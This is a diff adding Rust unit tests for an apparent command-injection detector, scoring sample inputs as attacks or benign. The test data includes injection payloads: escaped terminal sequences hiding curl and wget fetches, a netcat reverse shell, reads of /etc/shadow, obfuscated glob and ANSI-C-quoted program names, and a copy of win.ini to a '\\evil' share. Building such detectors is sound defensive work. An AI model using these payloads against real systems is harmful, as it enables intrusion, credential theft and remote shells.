@@ -120,3 +120,91 @@ fn pre_filter_never_hides_a_command() {
         assert!(!may_hold_command(v), "{v}");
     }
 }
+
+#[test]
+fn escaped_layers_and_terminal_sequences_hide_no_command() {
+    // One escaping layer (`\n`, `` \` ``) and literal terminal control sequences that move the
+    // cursor before the command.
+    for v in [
+        "x\\n\\e[1Auname -a",
+        "log\\n\\x1b[0mcurl http://203.0.113.9/a.sh",
+        "report.pdf\\u001b[2K\\nwget http://198.51.100.2/x",
+        "ok\\nq?name=\\`uname -a\\`",
+        "ok\\nsleep 10\\n",
+        "tag=`whoami`",
+    ] {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
+    }
+    for v in ["C:\\new\\report.txt", "printf(\"%d\\n\", sleep)", "color \\e[1m bold \\e[0m text", "use \\` to quote"] {
+        assert!(q(v) < 60, "{v:?}: {}", q(v));
+    }
+    // The pre-filter sees the command behind a control sequence.
+    assert!(may_hold_command("\\033[2Aid"));
+    assert!(may_hold_command("a\\e[Kid"));
+}
+
+#[test]
+fn bare_command_lines_need_a_system_target() {
+    // Without a separator a command line runs only where the whole value is executed; it is
+    // reported when it aims at the system.
+    for v in ["ls -l /", "rm -rf /var/www", "type %WINDIR%\\win.ini", "perl -e 'system(1)'", "net user", "which nc", "wget http://192.0.2.7/x", "dir c:"] {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
+    }
+    // Documentation shows command lines with flags and project-relative names.
+    for v in ["rm -rf node_modules", "curl -s -H 'Authorization: Bearer TOKEN' https://api.example.org/v2/users", "tar -xzf release.tgz", "`grep -rn TODO src`"]
+    {
+        let c = q(v);
+        assert!((40..60).contains(&c), "{v:?}: {c}");
+    }
+    // A substitution that is the whole value but reaches the system stays an attack.
+    for v in ["`cat /etc/shadow`", "`id`", "`nc 10.1.1.1 9001 -e sh`"] {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
+    }
+}
+
+#[test]
+fn unescape_view_is_linear() {
+    for unit in ["\\033[", "\\n", "\\e[1;", "\\`", "\\x1b[9"] {
+        let v = unit.repeat(1_000_000 / unit.len());
+        take_steps();
+        let out = unescape_view(&v);
+        let steps = take_steps();
+        assert!(steps <= v.len() as u64 + 1, "{unit}: {steps}");
+        assert!(out.len() <= v.len());
+    }
+}
+
+#[test]
+fn computed_program_names() {
+    // Written for this detector: the shell computes the program from a glob, ANSI-C quoting
+    // or a substitution's output.
+    for v in
+        [";/???/?at /???/p?ss??", "|/usr/bin/wh?ami", "& /b?n/c*t /etc/hosts", "a; $'\\x69\\x64'", "x;$'\\167\\150\\157\\141\\155\\151'", ";$(printf 'id')"]
+    {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
+        assert!(may_hold_command(v), "{v:?}");
+    }
+    // Comments, wildcard searches and function calls are not programs.
+    for v in ["x\n/**/", "see /docs/*.md; /src/**/mod.rs", "1\n/1/**/union", "`printf(\"%d\\n\", n);`", "a; f($'x')", "Price ($'s)"] {
+        assert!(q(v) < 60, "{v:?}: {}", q(v));
+    }
+}
+
+#[test]
+fn html_character_references_are_not_operators() {
+    for v in ["&copy; 2024 Example Inc.", "Fish &amp; chips", "&lt;b&gt;bold&lt;/b&gt;", "Terms &amp; conditions; type &quot;yes&quot;"] {
+        assert!(q(v) < 60, "{v:?}: {}", q(v));
+    }
+    for v in ["a&whoami;", "x & copy C:\\Windows\\win.ini \\\\evil\\s", "&id"] {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
+    }
+}
+
+#[test]
+fn ansi_c_quoting_with_a_multibyte_escape_does_not_panic() {
+    // Found by `detect_cmdi`: `$'\` then a multi-byte character.
+    for v in ["$'\\\u{fffd}", "$'\\é'", "a; $'\\\u{10ffff}\\x41'", "$'\\", "$'\\x"] {
+        let _ = q(v);
+        let _ = may_hold_command(v);
+    }
+}
